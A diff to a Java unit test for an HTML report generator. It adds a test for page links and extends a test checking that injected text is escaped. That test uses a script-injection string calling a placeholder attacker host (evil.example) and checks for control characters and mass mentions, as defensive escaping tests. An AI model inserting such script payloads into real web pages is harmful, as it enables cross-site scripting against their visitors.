@@ -6,6 +6,7 @@ import com.fasterxml.jackson.databind.JsonNode;
 import dev.pairwright.analysis.Findings;
 import dev.pairwright.analysis.MetricFinding;
 import dev.pairwright.io.StrictJson;
+import dev.pairwright.io.path.TreeRemoval;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -147,6 +148,27 @@ class ComparativeReportTest {
     }
 
     @Test
+    void pages_of_runs_and_pairs_are_linked_where_somebody_wrote_them() throws IOException {
+        String run = stage.findings().runs().get(0).runId();
+        Path pages = Files.createDirectory(stage.folder().resolve("pages"));
+        Files.createFile(pages.resolve(run + ".html"));
+        String pair = stage.findings().runs().get(0).pair();
+        Files.createFile(pages.resolve(pair + ".html"));
+        try {
+            ComparativeReport.write(stage.findings(), stage.stage().read());
+
+            List<String> links = stage.page().select("#t-analysed-runs a").eachAttr("href");
+            assertThat(links)
+                    .hasSize(17)
+                    .contains("pages/" + pair + ".html", "pages/" + run + ".html")
+                    .doesNotContain("../runs/" + run + "/");
+        } finally {
+            TreeRemoval.remove(pages);
+            ComparativeReport.write(stage.findings(), stage.stage().read());
+        }
+    }
+
+    @Test
     void what_it_is_stands_in_the_title_over_the_page_and_under_every_figure() {
         assertThat(page.title()).startsWith("SIMULATED: Title ");
         assertThat(page.selectFirst("h1").text()).isEqualTo(page.title());
@@ -159,10 +181,12 @@ class ComparativeReportTest {
 
     @Test
     void hostile_text_is_shown_and_does_nothing() {
-        String shown = "<script>fetch('http://evil.example/x')</script>";
+        String shown = "<script>canary=1;fetch('http://evil.example/x')</script>";
         assertThat(page.title()).contains(shown);
         assertThat(page.selectFirst("#t-by-task").text()).contains("Task " + shown);
         assertThat(page.selectFirst("#t-violation-list").text()).contains("Gap " + shown);
+        assertThat(page.selectFirst("#question").text()).contains("Claim " + shown);
+        assertThat(page.selectFirst("#t-circumstances").text()).contains("Model " + shown);
         assertThat(page.select("script, img, iframe, object, embed, form, link[href^=http]"))
                 .isEmpty();
         assertThat(page.getAllElements()).allSatisfy(element -> assertThat(element.attributes())
@@ -170,7 +194,7 @@ class ComparativeReportTest {
         assertThat(page.select("[href], [src]").eachAttr("href"))
                 .noneMatch(link -> link.contains("script:") || link.contains("://"));
         assertThat(page.getAllElements().stream().map(Element::ownText).toList())
-                .noneMatch(text -> text.contains("\u001b") || text.contains("\u202e"));
+                .noneMatch(text -> text.contains("\u001b") || text.contains("\u0007") || text.contains("\u202e"));
         for (String file : List.of("comparative-report.md", "summary.md")) {
             assertThat(stage.text(file)).doesNotContain("<script", "<img", "@everyone", "http://evil");
             assertThat(LINK.matcher(stage.text(file)).results().map(link -> link.group(1)))
